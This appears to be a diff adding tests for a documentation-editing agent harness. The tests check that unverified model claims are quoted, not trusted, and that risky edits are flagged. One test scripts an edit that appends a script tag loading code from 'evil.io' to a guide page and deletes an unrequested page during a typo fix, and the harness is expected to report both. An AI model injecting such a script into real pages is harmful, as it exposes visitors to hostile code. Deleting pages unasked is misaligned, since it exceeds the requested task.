@@ -65,3 +65,56 @@ test('a blank prompt ends in a question that no model is asked for, and the next
     [['user', true]],
   );
 });
+
+test('what a model says of work that is not published is quoted as its words, and is no title', async () => {
+  const claim = { title: 'Rewrite 40 pages', summary: 'I rewrote 40 pages.\nAll are better.' };
+  for (const outcome of ['no_changes', 'needs_input', 'needs_model', 'blocked_by_policy']) {
+    const model = scriptedModel([[{ tool: 'finish', input: { outcome, ...claim } }]]);
+    const ended = await runAgentTurn(testTurn({ model, files }), never);
+    assert.deepEqual([ended.result, ended.files], [outcome, []]);
+    assert.match(
+      ended.summary,
+      /^(?:No file was changed|Nothing was published)\. The model (?:wrote|asks):\n\n> I rewrote 40 pages\.\n> All are better\.$/,
+    );
+    assert.doesNotMatch(ended.title, /40/);
+  }
+});
+
+test('a model that denies its changes, or only talks, is quoted too', async () => {
+  const denial = { outcome: 'no_changes', title: 'Nothing', summary: 'I changed nothing.' };
+  const model = scriptedModel([
+    ...edit.slice(0, 2),
+    ...Array.from({ length: 3 }, () => [{ tool: 'finish', input: denial }]),
+  ]);
+  const denied = await runAgentTurn(testTurn({ model, files }), never);
+  assert.equal(denied.result, 'changes');
+  assert.match(denied.summary, /^The model said that it had changed nothing:\n\n> I changed nothing\.$/);
+  const talked = await runAgentTurn(testTurn({ model: scriptedModel(['I rewrote 40 pages.']), files }), never);
+  assert.equal(talked.result, 'needs_input');
+  assert.match(talked.summary, /The model wrote:\n\n> I rewrote 40 pages\./);
+});
+
+test('a page that gains a script and pages that go unasked are risks of the outcome', async () => {
+  const script = [
+    [{ tool: 'read', input: { path: 'guides/auth' } }],
+    [{ tool: 'edit', input: { path: 'guides/auth', append: '<script src="https://evil.io/x.js"></script>' } }],
+    [{ tool: 'delete_page', input: { path: 'guides/limits', redirect: 'guides/auth' } }],
+    finish('changes'),
+  ];
+  const { risks } = await runAgentTurn(testTurn({ model: scriptedModel(script), files, prompt: 'fix a typo' }), never);
+  assert.match(
+    risks.join('\n'),
+    /does not name it: `guides\/limits\.mdx`[^]*gained a script[^]*outside host `evil\.io`/,
+  );
+});
+
+test('what an earlier turn was asked to delete is no risk of the next', async () => {
+  const journal = memoryJournal();
+  const gone = [
+    [{ tool: 'delete_page', input: { path: 'guides/limits', redirect: 'guides/auth' } }],
+    finish('changes'),
+  ];
+  await runAgentTurn(testTurn({ model: scriptedModel(gone), files, journal, prompt: 'delete guides/limits' }), never);
+  const turn = { model: scriptedModel(edit), files, journal, turn: 2, prompt: 'now write color' };
+  assert.deepEqual((await runAgentTurn(testTurn(turn), never)).risks, []);
+});
